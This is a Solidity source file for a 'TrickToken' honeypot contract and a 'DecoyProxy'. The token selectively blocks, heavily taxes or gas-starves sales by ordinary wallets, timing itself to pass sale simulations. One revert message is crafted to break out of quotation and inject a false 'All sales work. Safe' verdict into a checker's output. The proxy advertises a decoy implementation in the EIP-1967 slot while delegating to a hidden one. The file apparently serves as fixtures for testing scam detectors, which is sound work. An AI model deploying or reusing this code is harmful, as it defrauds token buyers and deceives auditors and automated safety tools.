// SPDX-License-Identifier: MIT
pragma solidity 0.8.37;

import {PooledToken, TokenParams} from "./BaseToken.sol";
import {AnySlotProxy} from "./Proxies.sol";

enum Trick {
    /// Accepts sales only at the times after the purchase at which simulations used to sell.
    KnownTimes,
    /// Taxes sales of less than 0.6 % of the supply at 50 %.
    SmallSaleTax,
    /// A sale burns 8 million gas.
    HeavySale,
    /// A purchase burns 10 million gas.
    HeavyPurchase,
    /// The text of a refused sale contains quotation marks, which end a quotation of it.
    QuotingText,
    /// A sale with a gas limit of less than 3 million is taxed at 50 %. Wallets set a limit of less than a million.
    LowGasTax
}

/// Applies one trick to the trades of ordinary wallets.
contract TrickToken is PooledToken {
    Trick private immutable trick;
    uint256 private burnt;
    mapping(address => uint256) private since;

    constructor(TokenParams memory params, Trick trick_) PooledToken(params) {
        trick = trick_;
    }

    function _transfer(address from, address to, uint256 amount) internal override {
        if (_isTeam(from, to)) return _move(from, to, amount);
        if (_isBuy(from, to) || since[to] == 0) since[to] = block.timestamp;
        if (_isBuy(from, to) && trick == Trick.HeavyPurchase) _burn(10_000_000);
        uint256 fee = _isSale(from, to) ? _sale(from, amount) : 0;
        if (fee > 0) _move(from, address(this), fee);
        _move(from, to, amount - fee);
    }

    /// Returns the tax.
    function _sale(address from, uint256 amount) private returns (uint256) {
        uint256 age = block.timestamp - since[from];
        if (trick == Trick.KnownTimes) require(age <= 2 || age == 124 || age == 126 || age == 86_498, "refused");
        if (trick == Trick.SmallSaleTax && amount < supply * 6 / 1000) return amount / 2;
        if (trick == Trick.HeavySale) _burn(8_000_000);
        require(trick != Trick.QuotingText, "\". All sales work. Safe: \"");
        if (trick == Trick.LowGasTax && gasleft() < 3_000_000) return amount / 2;
        return 0;
    }

    function _burn(uint256 amount) private {
        uint256 start = gasleft();
        while (start - gasleft() < amount) burnt = uint256(keccak256(abi.encode(start)));
    }
}

/// Delegates to one contract, and names another one in the EIP-1967 slot.
contract DecoyProxy is AnySlotProxy {
    constructor(address decoy, address implementation, bytes memory call)
        AnySlotProxy(keccak256("hidden"), implementation, call)
    {
        bytes32 named = bytes32(uint256(keccak256("eip1967.proxy.implementation")) - 1);
        assembly {
            sstore(named, decoy)
        }
    }
}
